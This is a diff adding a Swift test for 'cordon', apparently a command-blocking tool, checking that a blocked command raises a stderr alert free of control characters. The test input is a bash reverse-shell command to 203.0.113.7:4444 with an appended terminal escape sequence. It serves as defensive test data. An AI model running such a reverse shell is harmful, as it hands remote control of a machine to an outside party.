@@ -186,4 +186,22 @@ struct AlertTests {
         #expect(r.status == 0)
         #expect(r.stderr.contains("cordon: " + warning) == !hasSendmail, "\(r.stderr)")
     }
+
+    @Test("a stderr channel prints the alert without the command's control characters")
+    func stderrChannel() throws {
+        let ws = try Workspace()
+        defer { try? FileManager.default.removeItem(atPath: ws.path + ".policy.yaml") }
+        let policy = try Self.policy(ws, "  alert_channels: [{type: stderr}]\n")
+        let r = try ws.run(
+            ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 # \u{1b}[2J"], options: ["--policy", policy])
+        #expect(r.status == 77)
+        let lines = r.stderr.split(separator: "\n").filter {
+            $0.hasPrefix("cordon: alert: ") || $0.hasPrefix("cordon:   ")
+        }
+        #expect(
+            lines.first?.hasPrefix("cordon: alert: [cordon] critical: cordon blocked a command at critical level")
+                == true)
+        #expect(lines.contains { $0.contains("cordon log --run r-") })
+        #expect(!lines.contains { $0.contains("\u{1b}") })
+    }
 }
